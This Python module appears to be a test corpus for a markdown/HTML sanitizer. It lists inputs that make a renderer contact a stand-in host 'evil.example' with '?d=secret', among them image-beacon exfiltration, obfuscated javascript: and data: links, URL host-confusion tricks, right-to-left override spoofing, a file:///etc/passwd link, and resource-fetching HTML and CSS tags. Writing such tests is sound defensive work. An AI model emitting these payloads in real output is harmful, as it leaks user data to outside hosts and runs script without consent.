"""Texts that would make whoever shows them ask a foreign host (S11), or run something when a link is followed."""

from __future__ import annotations

from tests.admin.corpus import RUN

HOST = "evil.example"
TO = f"//{HOST}/?d=secret"

IMAGES = [
    f"![x]({TO})",
    f"![x](https:{TO})",
    f'![x](<https:{TO}> "title")',
    f"![x][1]\n\n[1]: https:{TO}",
    f"![1]\n\n[1]: <https:{TO}> 'title'",
    f"[![x](https:{TO})](https://shop.example/)",
    f"![![x](https:{TO})](https:{TO})",
    f"!\\[x](https:{TO}) \\![x](https:{TO})",
    f"| a |\n|---|\n| ![x](https:{TO}) |",
    f"> - 1. ![x](https:{TO})",
    f"**_![x](https:{TO})_**",
    f"![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https:{TO}'/></svg>)",
    f"![x](\\\\{HOST}\\?d=secret)",
    f"![x](https:/\\{HOST}/?d=secret)",
    f"![x](ht\ttps:{TO})",
    f"![x](&#104;ttps:{TO})",
]
LINKS = [
    f"[a]: https:{TO}\n\n[a] [b][a] [a][]",
    f"<https:{TO}> https:{TO} www.{HOST}/?d=secret",
    f'<a href="https:{TO}" ping="https:{TO}">x</a>',
    f"[x](javascript:{RUN}) [x](JAVASCRIPT:{RUN}) [x](javascript&colon;{RUN}) [x](&#106;avascript:{RUN})",
    f"[x](java&Tab;script:{RUN}) [x](java&NewLine;script:{RUN}) [x](<java\tscript:{RUN}>) [x](\x01javascript:{RUN})",
    f"[x](javascript&#58;{RUN}) [x](javascript&#x3A;{RUN}) [x](%6Aavascript:{RUN}) [x](javascript%3A{RUN})",
    f"[x](vbscript:{RUN}) [x](data:text/html,<script>{RUN}</script>) [x](blob:https://{HOST}/1) [x](file:///etc/passwd)",
    f"<javascript:{RUN}> <JavaScript:{RUN}//@shop.example> <data:text/html;base64,PHNjcmlwdD4=>",
    f"[x]: javascript:{RUN}\n\n[x] [y][x]",
    f"[x](https://shop.example@{HOST}/) [x](https://shop.example%2F@{HOST}) [x](https://shop.example\\@{HOST})",
    f"[x](\u202ejavascript:{RUN}\u202c) [\u202egnp.exe\u202c](https:{TO}) https://\u202e{HOST}",
    f"[x](view-source:javascript:{RUN}) [x](feed:javascript:{RUN}) [x](jar:https:{TO}) [x](intent:{TO})",
]
MARKUP = [
    f"<img src=https:{TO}><img srcset='https:{TO} 2x'><picture><source srcset=https:{TO}></picture>",
    f"<link rel=stylesheet href=https:{TO}><link rel=prefetch href=https:{TO}><link rel=preconnect href=https://{HOST}>",
    f"<style>@import url(https:{TO}); * {{ background: url(https:{TO}) }}</style>",
    f"<p style='background:url(https:{TO})'>x</p><table background=https:{TO}><body background=https:{TO}>",
    f"<svg><image href=https:{TO} /><use href='https:{TO}#x' /><feImage href=https:{TO} /></svg>",
    f"<video poster=https:{TO}><audio src=https:{TO} autoplay><track src=https:{TO}>",
    f"<iframe src=https:{TO}></iframe><embed src=https:{TO}><object data=https:{TO}></object><frame src=https:{TO}>",
    f"<input type=image src=https:{TO}><form action=https:{TO}><button autofocus>x</button></form>",
    f"<meta http-equiv=refresh content='0;url=https:{TO}'><base href=https://{HOST}/>",
    f"<script src=https:{TO}></script><script type=module>import 'https:{TO}'</script>",
]

ALL = [*IMAGES, *LINKS, *MARKUP]
